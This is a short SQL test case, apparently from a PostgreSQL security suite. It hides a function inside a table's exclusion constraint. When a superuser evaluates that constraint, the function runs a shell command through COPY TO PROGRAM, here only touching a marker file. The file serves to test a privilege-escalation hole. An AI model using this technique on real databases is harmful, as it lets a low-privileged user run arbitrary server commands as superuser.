-- tries: an exclusion constraint whose expression runs where the table is made
-- ends: SUCCEEDED
-- leaves: anything
create function payload() returns int language plpgsql as $$ begin execute 'copy (select 1) to program ''touch ${FILE}'''; return 1; end $$;
create function evil() returns int immutable language plpgsql as $$
begin if current_setting('is_superuser') = 'on' then perform public.payload(); end if; return 1; end $$;
create table t (x int, exclude using btree ((x + evil()) with =));
